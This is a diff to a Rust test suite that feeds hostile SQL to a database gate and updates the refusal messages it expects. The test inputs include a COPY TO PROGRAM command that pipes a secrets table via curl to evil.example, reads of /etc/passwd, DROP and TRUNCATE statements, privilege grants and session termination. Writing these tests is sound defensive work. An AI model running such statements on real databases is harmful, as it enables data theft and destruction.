@@ -471,7 +471,7 @@ async fn hostile_commit_then_write_is_refused() {
 async fn hostile_rollback_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("ROLLBACK")).await;
-        assert_reason(&reason, &["transaction control"]);
+        assert_reason(&reason, &["refused by the SQL gate", "transaction control"]);
     }
 }
 
@@ -479,10 +479,13 @@ async fn hostile_rollback_is_refused() {
 async fn hostile_savepoint_and_release_are_refused() {
     for host in HOSTS {
         let arena = Arena::new(host).await;
-        assert_reason(&arena.attack(sql("SAVEPOINT escape")).await, &["transaction control"]);
+        assert_reason(
+            &arena.attack(sql("SAVEPOINT escape")).await,
+            &["refused by the SQL gate", "transaction control"],
+        );
         assert_reason(
             &arena.attack(sql("RELEASE SAVEPOINT ingot_processor")).await,
-            &["transaction control"],
+            &["refused by the SQL gate", "transaction control"],
         );
     }
 }
@@ -491,7 +494,7 @@ async fn hostile_savepoint_and_release_are_refused() {
 async fn hostile_multi_statement_string_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("SELECT 1; DELETE FROM secrets")).await;
-        assert_reason(&reason, &["2 statements"]);
+        assert_reason(&reason, &["refused by the SQL gate", "2 statements"]);
     }
 }
 
@@ -500,7 +503,7 @@ async fn hostile_do_block_is_refused() {
     for host in HOSTS {
         let reason =
             Arena::new(host).await.attack(sql("DO $$ BEGIN EXECUTE 'DELETE FROM secrets'; END $$")).await;
-        assert_reason(&reason, &["DO blocks"]);
+        assert_reason(&reason, &["refused by the SQL gate", "DO blocks run code outside the gate"]);
     }
 }
 
@@ -508,7 +511,7 @@ async fn hostile_do_block_is_refused() {
 async fn hostile_call_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("CALL do_anything()")).await;
-        assert_reason(&reason, &["CALL"]);
+        assert_reason(&reason, &["refused by the SQL gate", "CALL runs procedures"]);
     }
 }
 
@@ -519,7 +522,7 @@ async fn hostile_copy_to_program_is_refused() {
             .await
             .attack(sql("COPY secrets TO PROGRAM 'curl -d @- http://evil.example'"))
             .await;
-        assert_reason(&reason, &["COPY"]);
+        assert_reason(&reason, &["refused by the SQL gate", "COPY reads and writes files and programs"]);
     }
 }
 
@@ -527,7 +530,7 @@ async fn hostile_copy_to_program_is_refused() {
 async fn hostile_copy_from_a_file_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("COPY probe_rows (label) FROM '/etc/passwd'")).await;
-        assert_reason(&reason, &["COPY"]);
+        assert_reason(&reason, &["refused by the SQL gate", "COPY reads and writes files and programs"]);
     }
 }
 
@@ -535,7 +538,10 @@ async fn hostile_copy_from_a_file_is_refused() {
 async fn hostile_listen_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("LISTEN ingot_batches")).await;
-        assert_reason(&reason, &["LISTEN"]);
+        assert_reason(
+            &reason,
+            &["refused by the SQL gate", "LISTEN, NOTIFY and UNLISTEN reach other sessions"],
+        );
     }
 }
 
@@ -543,7 +549,10 @@ async fn hostile_listen_is_refused() {
 async fn hostile_notify_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("NOTIFY ingot_batches, 'fake'")).await;
-        assert_reason(&reason, &["NOTIFY"]);
+        assert_reason(
+            &reason,
+            &["refused by the SQL gate", "LISTEN, NOTIFY and UNLISTEN reach other sessions"],
+        );
     }
 }
 
@@ -551,8 +560,14 @@ async fn hostile_notify_is_refused() {
 async fn hostile_prepare_and_execute_are_refused() {
     for host in HOSTS {
         let arena = Arena::new(host).await;
-        assert_reason(&arena.attack(sql("PREPARE p AS DELETE FROM secrets")).await, &["PREPARE"]);
-        assert_reason(&arena.attack(sql("EXECUTE p")).await, &["PREPARE"]);
+        assert_reason(
+            &arena.attack(sql("PREPARE p AS DELETE FROM secrets")).await,
+            &["refused by the SQL gate", "PREPARE, EXECUTE and DEALLOCATE manage session statements"],
+        );
+        assert_reason(
+            &arena.attack(sql("EXECUTE p")).await,
+            &["refused by the SQL gate", "PREPARE, EXECUTE and DEALLOCATE manage session statements"],
+        );
     }
 }
 
@@ -561,7 +576,7 @@ async fn hostile_lock_table_is_refused() {
     for host in HOSTS {
         let reason =
             Arena::new(host).await.attack(sql("LOCK TABLE import_batches IN ACCESS EXCLUSIVE MODE")).await;
-        assert_reason(&reason, &["LOCK TABLE"]);
+        assert_reason(&reason, &["refused by the SQL gate", "LOCK TABLE holds locks beyond the statement"]);
     }
 }
 
@@ -569,7 +584,7 @@ async fn hostile_lock_table_is_refused() {
 async fn hostile_advisory_lock_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(query("SELECT pg_advisory_lock(42)")).await;
-        assert_reason(&reason, &["pg_advisory_lock()"]);
+        assert_reason(&reason, &["refused by the SQL gate", "pg_advisory_lock() changes session state"]);
     }
 }
 
@@ -577,7 +592,7 @@ async fn hostile_advisory_lock_is_refused() {
 async fn hostile_vacuum_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("VACUUM FULL import_batch_items")).await;
-        assert_reason(&reason, &["VACUUM"]);
+        assert_reason(&reason, &["refused by the SQL gate", "VACUUM and ANALYZE are maintenance"]);
     }
 }
 
@@ -585,7 +600,10 @@ async fn hostile_vacuum_is_refused() {
 async fn hostile_explain_analyze_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("EXPLAIN ANALYZE DELETE FROM secrets")).await;
-        assert_reason(&reason, &["EXPLAIN"]);
+        assert_reason(
+            &reason,
+            &["refused by the SQL gate", "EXPLAIN can execute its statement outside the gate"],
+        );
     }
 }
 
@@ -595,7 +613,7 @@ async fn hostile_explain_analyze_is_refused() {
 async fn hostile_create_table_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("CREATE TABLE loot AS SELECT * FROM secrets")).await;
-        assert_reason(&reason, &["DDL"]);
+        assert_reason(&reason, &["refused by the SQL gate", "DDL"]);
     }
 }
 
@@ -603,7 +621,7 @@ async fn hostile_create_table_is_refused() {
 async fn hostile_drop_table_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("DROP TABLE customers")).await;
-        assert_reason(&reason, &["DDL"]);
+        assert_reason(&reason, &["refused by the SQL gate", "DDL"]);
     }
 }
 
@@ -611,7 +629,7 @@ async fn hostile_drop_table_is_refused() {
 async fn hostile_truncate_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("TRUNCATE secrets")).await;
-        assert_reason(&reason, &["TRUNCATE"]);
+        assert_reason(&reason, &["refused by the SQL gate", "TRUNCATE is DDL-like"]);
     }
 }
 
@@ -619,7 +637,7 @@ async fn hostile_truncate_is_refused() {
 async fn hostile_select_into_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("SELECT * INTO loot FROM probe_rows")).await;
-        assert_reason(&reason, &["SELECT … INTO"]);
+        assert_reason(&reason, &["refused by the SQL gate", "SELECT … INTO"]);
     }
 }
 
@@ -627,7 +645,7 @@ async fn hostile_select_into_is_refused() {
 async fn hostile_grant_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(sql("GRANT ALL ON secrets TO PUBLIC")).await;
-        assert_reason(&reason, &["GRANT"]);
+        assert_reason(&reason, &["refused by the SQL gate", "GRANT and REVOKE change privileges"]);
     }
 }
 
@@ -653,7 +671,8 @@ async fn hostile_reading_import_batch_items_is_denied() {
 async fn hostile_updating_import_batches_is_denied() {
     for host in HOSTS {
         let arena = Arena::new(host).await;
-        let attack = sql("UPDATE import_batches SET status = 'completed'");
+        let attack =
+            sql("UPDATE import_batches SET status = 'failed', error_message = 'forged', total_items = 999");
         assert_reason(
             &arena.attack(attack.clone()).await,
             &["refused by the SQL gate", "Ingot's own tables"],
@@ -758,7 +777,7 @@ async fn hostile_reading_pg_authid_is_denied() {
 async fn hostile_pg_read_file_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(query("SELECT pg_read_file('/etc/passwd')")).await;
-        assert_reason(&reason, &["pg_read_file()"]);
+        assert_reason(&reason, &["refused by the SQL gate", "pg_read_file()"]);
     }
 }
 
@@ -766,7 +785,7 @@ async fn hostile_pg_read_file_is_refused() {
 async fn hostile_lo_import_is_refused() {
     for host in HOSTS {
         let reason = Arena::new(host).await.attack(query("SELECT lo_import('/etc/passwd')")).await;
-        assert_reason(&reason, &["lo_import()"]);
+        assert_reason(&reason, &["refused by the SQL gate", "lo_import()"]);
     }
 }
 
@@ -779,7 +798,7 @@ async fn hostile_dblink_is_refused() {
                 "SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'DELETE FROM secrets') AS t(x text)",
             ))
             .await;
-        assert_reason(&reason, &["dblink()"]);
+        assert_reason(&reason, &["refused by the SQL gate", "dblink()"]);
     }
 }
 
@@ -790,7 +809,7 @@ async fn hostile_query_to_xml_is_refused() {
             .await
             .attack(query("SELECT query_to_xml('SELECT * FROM secrets', true, false, '')"))
             .await;
-        assert_reason(&reason, &["query_to_xml()"]);
+        assert_reason(&reason, &["refused by the SQL gate", "query_to_xml()"]);
     }
 }
 
@@ -801,7 +820,7 @@ async fn hostile_terminating_other_backends_is_refused() {
             .await
             .attack(query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"))
             .await;
-        assert_reason(&reason, &["pg_terminate_backend()"]);
+        assert_reason(&reason, &["refused by the SQL gate", "pg_terminate_backend()"]);
     }
 }
 
@@ -1021,10 +1040,10 @@ async fn hostile_calls_to_the_frameworks_own_functions_change_nothing() {
             format!("SELECT * FROM ingot_claim('{b}', 'probe', 0)"),
             format!("SELECT ingot_open('{b}', 'probe')::text"),
             format!(
-                "SELECT ingot_finish_item(NULL, '{b}', '<ITEM_ID>', 0::smallint, '{{\"status\": \"completed\"}}')::text"
+                "SELECT ingot_finish_item(NULL, '{b}', '<ITEM_ID>', 0::smallint, '{{\"status\": \"skipped\"}}')::text"
             ),
             format!(
-                "SELECT ingot_finish_item(gen_random_uuid(), '{b}', id, 0::smallint, '{{\"status\": \"completed\"}}')::text \
+                "SELECT ingot_finish_item(gen_random_uuid(), '{b}', id, 0::smallint, '{{\"status\": \"skipped\"}}')::text \
                  FROM (SELECT gen_random_uuid() AS id) g"
             ),
             format!("SELECT ingot_batch_transition(NULL, '{b}', 'failed', NULL, 'forged')"),
